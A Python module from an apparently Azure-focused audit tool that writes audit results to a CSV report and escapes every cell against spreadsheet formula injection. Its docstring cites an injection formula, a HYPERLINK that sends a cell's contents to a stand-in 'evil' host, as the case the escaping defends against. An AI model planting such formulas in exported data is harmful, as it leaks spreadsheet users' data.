"""The CSV report: one row per result, for spreadsheets and ticket imports.

Every cell goes through `aciaudit.escape.csv_cell`, so a resource named
`=HYPERLINK("http://evil/?"&A1)` is text in Excel or LibreOffice, never a formula;
quoting is left to the csv module. Lines end with CRLF, as RFC 4180 asks.
"""

from __future__ import annotations

import csv
from collections.abc import Callable

from aciaudit.escape import csv_cell
from aciaudit.run import Run
from checks import arm_id
from checks.kinds import kind_label
from checks.model import ESTATE_SCOPE, Status

HEADER = (
    "check_id",
    "severity",
    "status",
    "suppressed",
    "title",
    "resource_id",
    "resource_name",
    "resource_group",
    "subscription",
    "section",
    "message",
)

# A StrEnum's `.value` is a Python-level descriptor: looked up instead, once per row.
_STATUS = {s: s.value for s in Status}


class _Sink:
    """What csv.writer needs: an object with `write(str)`."""

    def __init__(self, write: Callable[[str], object]) -> None:
        self.write = write


def write_csv(run: Run, write: Callable[[str], object]) -> None:
    buffer: list[str] = []
    writer = csv.writer(_Sink(buffer.append), lineterminator="\r\n")
    writer.writerow(HEADER)
    subs = {s.subscription_id.lower(): s.label for s in run.index.subscriptions}
    # What a check's rows repeat, and a resource's cells, made safe once each: the same
    # resource comes back in every check that judges it. Only the message is per row.
    per_check: dict[str, tuple[str, str, str, str]] = {}
    where: dict[str, tuple[str, str, str, str]] = {}
    suppressing = bool(run.suppressions)
    for result in run.results:
        cid, rid, status, message, _ = result
        fixed = per_check.get(cid)
        if fixed is None:
            chk = run.catalogue[cid]
            fixed = per_check[cid] = (
                csv_cell(chk.id),
                chk.severity.value,
                csv_cell(chk.title),
                csv_cell(chk.section),
            )
        cells = where.get(rid)
        if cells is None:
            cells = where[rid] = _resource_cells(rid, subs)
        writer.writerow(
            (
                fixed[0],
                fixed[1],
                _STATUS[status],
                "yes" if suppressing and run.suppression(result) is not None else "no",
                fixed[2],
                *cells,
                fixed[3],
                csv_cell(message),
            )
        )
        if len(buffer) >= 4096:
            write("".join(buffer))
            buffer.clear()
    write("".join(buffer))


def _resource_cells(rid: str, subs: dict[str, str]) -> tuple[str, str, str, str]:
    """resource_id, resource_name, resource_group and subscription, each made safe."""
    parsed = arm_id.parse(rid)
    sub = parsed.subscription or ""
    if rid.strip() == ESTATE_SCOPE:
        name = "(whole estate)"
    elif rid.rstrip("/").lower() == f"/subscriptions/{sub}".lower() and sub:
        name = f"(subscription) {subs.get(sub.lower(), sub)}"
    elif kind_label(rid):
        name = f"({kind_label(rid)}) {parsed.name or rid}"
    else:
        name = parsed.name or rid
    label = subs.get(sub.lower(), sub)
    sub_cell = f"{label} ({sub})" if label and label != sub else sub
    return (
        csv_cell(rid),
        csv_cell(name),
        csv_cell(parsed.resource_group or ""),
        csv_cell(sub_cell),
    )
